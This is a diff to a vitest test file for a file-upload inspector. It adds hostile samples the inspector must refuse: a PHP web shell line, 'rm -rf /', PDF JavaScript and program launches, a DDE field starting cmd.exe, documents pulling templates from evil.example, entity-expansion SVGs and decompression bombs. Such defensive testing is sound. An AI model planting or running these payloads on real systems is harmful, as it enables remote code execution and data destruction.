@@ -1,4 +1,7 @@
 import { randomBytes } from 'node:crypto';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { deflateSync } from 'node:zlib';
 import { zipSync } from 'fflate';
 import { expect, test } from 'vitest';
@@ -7,13 +10,15 @@ import { openTestDatabase } from '#test/database.ts';
 import { box, makePdf, makePicture, makeSvg, makeVideo } from '#test/media-files.ts';
 import { openTestMedia } from '#test/media-storage.ts';
 import { makeUploader } from '#test/upload.ts';
+import { RefusedFileError } from '../refused-file-error.ts';
 import { mediaFiles } from '../tables.server.ts';
+import { inspectFile } from './inspect-file.server.ts';
 
 openTestDatabase();
 const { files } = openTestMedia();
 
 const text = (words: string) => Buffer.from(words);
-const join = (...parts: Uint8Array[]) => Buffer.concat(parts);
+const concat = (...parts: Uint8Array[]) => Buffer.concat(parts);
 const png = () => makePicture().png().toBuffer();
 const jpeg = () => makePicture().jpeg().toBuffer();
 const zip = (names: Record<string, Uint8Array> = { 'a.txt': text('a') }) => Buffer.from(zipSync(names));
@@ -30,10 +35,10 @@ function crc32(bytes: Uint8Array): number {
 function chunk(name: string, content: Uint8Array): Buffer {
   const length = Buffer.alloc(4);
   length.writeUInt32BE(content.length);
-  const named = join(text(name), content);
+  const named = concat(text(name), content);
   const check = Buffer.alloc(4);
   check.writeUInt32BE(crc32(named));
-  return join(length, named, check);
+  return concat(length, named, check);
 }
 
 /** A small file that says it is a picture of so many pixels, all of them the same. */
@@ -43,7 +48,7 @@ function pngBomb(width: number, height: number): Buffer {
   head.writeUInt32BE(height, 4);
   head.set([1, 0, 0, 0, 0], 8);
   const rows = deflateSync(Buffer.alloc((Math.ceil(width / 8) + 1) * Math.min(height, 2000)));
-  return join(
+  return concat(
     text('\x89PNG\r\n\x1a\n').subarray(0, 0),
     Buffer.from('89504e470d0a1a0a', 'hex'),
     chunk('IHDR', head),
@@ -64,6 +69,27 @@ function unfolding(archive: Buffer, bytes: number): Buffer {
   return archive;
 }
 
+/** Objects packed as newer PDFs do, and what the dictionary says of the packing. */
+function objectStream(
+  objects: string,
+  { filter = '/FlateDecode', pack = deflateSync as (bytes: Buffer) => Buffer } = {},
+): Buffer {
+  const content = pack(text(`3 0 ${objects}`));
+  const dictionary = `<</Type/Obj#53tm/N 1/First 4/Filter${filter}/Length ${content.length}>>`;
+  return concat(text('%PDF-1.5\n4 0 obj'), text(`${dictionary}stream\n`), content, text('\nendstream endobj\n%%EOF\n'));
+}
+const script = '<</S/JavaScript/JS(app.alert(1))>>';
+
+const reference = (type: string, target: string) =>
+  text(
+    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="&#69;xternal"/></Relationships>`,
+  );
+const openDocument = (content: string) =>
+  zip({
+    mimetype: text('application/vnd.oasis.opendocument.text'),
+    'meta.xml': text(`<m xmlns:xlink="x">${content}</m>`),
+  });
+
 const laughs = `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>`;
 const repeats = Array.from({ length: 31 }, (_, level) => `<g id="g${level + 1}"><use href="#g${level}"/></g>`).join('');
 
@@ -71,13 +97,13 @@ const corpus: [what: string, name: string, make: () => Buffer | Promise<Buffer>]
   ['nothing', 'empty.png', () => Buffer.alloc(0)],
   ['noise', 'noise.jpg', () => randomBytes(5000)],
   ['a page that says it is a picture', 'a.png', () => text('<!doctype html><script>alert(1)</script>')],
-  ['a program', 'a.jpg', () => join(text('MZ'), randomBytes(2000))],
-  ['a Linux program', 'a.mp4', () => join(text('\x7fELF\x02\x01\x01'), Buffer.alloc(200))],
+  ['a program', 'a.jpg', () => concat(text('MZ'), randomBytes(2000))],
+  ['a Linux program', 'a.mp4', () => concat(text('\x7fELF\x02\x01\x01'), Buffer.alloc(200))],
   ['a script', 'a.pdf', () => text('#!/bin/sh\nrm -rf /\n')],
   ['PHP', 'a.gif', () => text('<?php system($_GET[0]); ?>')],
   ['an archive', 'a.zip', () => zip()],
   ['an archive that says it is a document', 'a.docx', () => zip()],
-  ['sound', 'a.mp3', () => join(text('ID3\x03\0\0\0\0\0\0'), randomBytes(200))],
+  ['sound', 'a.mp3', () => concat(text('ID3\x03\0\0\0\0\0\0'), randomBytes(200))],
   ['a GIF that is a script too', 'a.gif', () => text('GIF89a/*AAAA*/=1;alert(document.domain)//')],
   [
     'a picture with a page in its comment',
@@ -85,12 +111,12 @@ const corpus: [what: string, name: string, make: () => Buffer | Promise<Buffer>]
     async () => {
       const bytes = await jpeg();
       const words = text('<script>alert(1)</script>');
-      const comment = join(Buffer.from([0xff, 0xfe, 0, words.length + 2]), words);
-      return join(bytes.subarray(0, 2), comment, bytes.subarray(2));
+      const comment = concat(Buffer.from([0xff, 0xfe, 0, words.length + 2]), words);
+      return concat(bytes.subarray(0, 2), comment, bytes.subarray(2));
     },
   ],
-  ['a picture with PHP behind it', 'a.png', async () => join(await png(), text('<?php phpinfo(); ?>'))],
-  ['a picture with an archive behind it', 'a.png', async () => join(await png(), zip())],
+  ['a picture with PHP behind it', 'a.png', async () => concat(await png(), text('<?php phpinfo(); ?>'))],
+  ['a picture with an archive behind it', 'a.png', async () => concat(await png(), zip())],
   [
     'a picture with a PDF in it',
     'a.jpg',
@@ -99,7 +125,7 @@ const corpus: [what: string, name: string, make: () => Buffer | Promise<Buffer>]
       const words = makePdf();
       const size = Buffer.alloc(2);
       size.writeUInt16BE(words.length + 2);
-      return join(bytes.subarray(0, 2), Buffer.from([0xff, 0xfe]), size, words, bytes.subarray(2));
+      return concat(bytes.subarray(0, 2), Buffer.from([0xff, 0xfe]), size, words, bytes.subarray(2));
     },
   ],
   ['a picture cut off', 'a.png', async () => (await png()).subarray(0, 60)],
@@ -146,7 +172,7 @@ const corpus: [what: string, name: string, make: () => Buffer | Promise<Buffer>]
   [
     'an SVG with a stylesheet of another',
     'a.svg',
-    () => join(text('<?xml-stylesheet href="https://evil.example/a.xsl"?>'), makeSvg()),
+    () => concat(text('<?xml-stylesheet href="https://evil.example/a.xsl"?>'), makeSvg()),
   ],
   [
     'an SVG with a script in another namespace',
@@ -168,8 +194,63 @@ const corpus: [what: string, name: string, make: () => Buffer | Promise<Buffer>]
   ['a PDF with a script', 'a.pdf', () => makePdf('/OpenAction<</S/JavaScript/JS(app.alert(1))>>')],
   ['a PDF with a script whose name is spelt in codes', 'a.pdf', () => makePdf('/OpenAction<</S/J#61vaScript>>')],
   ['a PDF that starts a program', 'a.pdf', () => makePdf('/OpenAction<</S/Launch/F(calc.exe)>>')],
-  ['a PDF that is an archive too', 'a.pdf', () => join(makePdf(), zip())],
-  ['a PDF that is a page too', 'a.pdf', () => join(makePdf(), text('<html><script>alert(1)</script>'))],
+  ['a PDF that is an archive too', 'a.pdf', () => concat(makePdf(), zip())],
+  ['a PDF that is a page too', 'a.pdf', () => concat(makePdf(), text('<html><script>alert(1)</script>'))],
+  ['a PDF with a script in an object stream', 'a.pdf', () => objectStream(script)],
+  [
+    'a PDF with a script in an object stream whose checksum is wrong',
+    'a.pdf',
+    () => objectStream(script, { pack: (bytes) => concat(deflateSync(bytes).subarray(0, -4), Buffer.alloc(4)) }),
+  ],
+  [
+    'a PDF with a script in an object stream that is not packed',
+    'a.pdf',
+    () => objectStream(script, { pack: (bytes) => bytes }),
+  ],
+  [
+    'a PDF whose object stream is packed otherwise',
+    'a.pdf',
+    () => objectStream(script, { filter: '/LZWDecode', pack: (bytes) => Buffer.from(bytes.map((byte) => ~byte)) }),
+  ],
+  ['a PDF whose object stream unfolds without end', 'a.pdf', () => objectStream(' '.repeat(40_000_000))],
+  ['a PDF that nobody can read', 'a.pdf', () => makePdf('/Encrypt 5 0 R')],
+  [
+    'a document with a template elsewhere',
+    'a.docx',
+    () =>
+      zip({ ...word, 'word/_rels/settings.xml.rels': reference('attachedTemplate', 'https://evil.example/a.dotm') }),
+  ],
+  [
+    'a document with a template on another computer',
+    'a.docx',
+    () => zip({ ...word, 'word/_rels/settings.xml.rels': reference('attachedTemplate', 'file://evil.example/a.dotm') }),
+  ],
+  [
+    'a document with a picture elsewhere',
+    'a.docx',
+    () => zip({ ...word, 'word/_rels/document.xml.rels': reference('image', 'https://evil.example/a.png') }),
+  ],
+  [
+    'a document that starts a program',
+    'a.docx',
+    () =>
+      zip({
+        ...word,
+        'word/document.xml': text(
+          '<w:d><w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\cmd.exe</w:instrText></w:d>',
+        ),
+      }),
+  ],
+  [
+    'an OpenDocument with a template elsewhere',
+    'a.odt',
+    () => openDocument('<meta:template xlink:href="https://evil.example/a.ott"/>'),
+  ],
+  [
+    'an OpenDocument with a script',
+    'a.odt',
+    () => openDocument('<script:event-listener xlink:href="vnd.sun.star.script:a"/>'),
+  ],
   ['a document with macros', 'a.docx', () => zip({ ...word, 'word/vbaProject.bin': text('macro') })],
   ['a document that unfolds without end', 'a.docx', () => unfolding(zip(word), 2_000_000_000)],
   ['a document cut off', 'a.docx', () => zip(word).subarray(0, 200)],
@@ -178,14 +259,14 @@ const corpus: [what: string, name: string, make: () => Buffer | Promise<Buffer>]
   [
     'a video that is a page',
     'a.mp4',
-    () => join(box('ftyp', text('isom\0\0\0\0isommp42')), text('<html><script>alert(1)</script>')),
+    () => concat(box('ftyp', text('isom\0\0\0\0isommp42')), text('<html><script>alert(1)</script>')),
   ],
-  ['a video with an archive behind it', 'a.mp4', () => join(makeVideo(), zip())],
+  ['a video with an archive behind it', 'a.mp4', () => concat(makeVideo(), zip())],
   [
     'a WebM with a page in it',
     'a.webm',
     () =>
-      join(
+      concat(
         Buffer.from('1a45dfa3', 'hex'),
         Buffer.from([0x8b, 0x42, 0x82, 0x84]),
         text('webm'),
@@ -194,14 +275,52 @@ const corpus: [what: string, name: string, make: () => Buffer | Promise<Buffer>]
   ],
 ];
 
-test.each(corpus)('%s is refused with a sentence, and nothing of it stays', async (_what, name, make) => {
+const limits = { image: 25, document: 50, video: 2048 };
+
+/** What the child process does with a file, without the process. */
+async function inspected(bytes: Buffer) {
+  const folder = mkdtempSync(join(tmpdir(), 'hostile-'));
+  try {
+    const path = join(folder, 'file');
+    writeFileSync(path, bytes);
+    return await inspectFile({ kind: 'inspect', path, bytes: bytes.length, limits, output: join(folder, 'output') });
+  } finally {
+    rmSync(folder, { recursive: true, force: true });
+  }
+}
+
+test.each(corpus)('%s is refused with a sentence', async (_what, _name, make) => {
+  const refusal = await inspected(await make()).catch((error: unknown) => error);
+  expect(refusal).toBeInstanceOf(RefusedFileError);
+  expect((refusal as Error).message).toMatch(/^[A-Z][^<>]*(<[\w:]+>)?[^<>]*\.$/);
+});
+
+test('of what is refused nothing stays', async () => {
   const { upload } = await makeUploader();
   const before = files();
-  const { status, words, mediaId } = await upload(await make(), name);
-  expect({ status, mediaId }).toEqual({ status: 422, mediaId: '' });
-  expect(words).toMatch(/^[A-Z][^<>]*(<[\w:]+>)?[^<>]*\.$/);
+  for (const bytes of [Buffer.alloc(0), makeSvg('<script>alert(1)</script>'), pngBomb(65_000, 65_000)]) {
+    const { status, words, mediaId } = await upload(bytes, 'a.png');
+    expect({ status, mediaId }).toEqual({ status: 422, mediaId: '' });
+    expect(words).toMatch(/^[A-Z].*\.$/);
+  }
   expect(files()).toEqual(before);
   expect(await db.$count(mediaFiles)).toBe(0);
+});
+
+test.each([
+  ['a PDF that packs its objects', () => objectStream('<</Type/Catalog>>')],
+  [
+    'a document with links and a template of its own',
+    () =>
+      zip({
+        ...word,
+        'word/_rels/document.xml.rels': reference('hyperlink', 'https://example.org/'),
+        'word/_rels/settings.xml.rels': reference('attachedTemplate', 'file:///C:\\Users\\ann\\Normal.dotm'),
+      }),
+  ],
+  ['an OpenDocument with a picture of its own', () => openDocument('<draw:image xlink:href="Pictures/a.png"/>')],
+])('%s is taken', async (_what, make) => {
+  expect(await inspected(make())).toMatchObject({ kind: 'document', isWrittenAnew: false });
 });
 
 test('a document that is only that is taken', async () => {
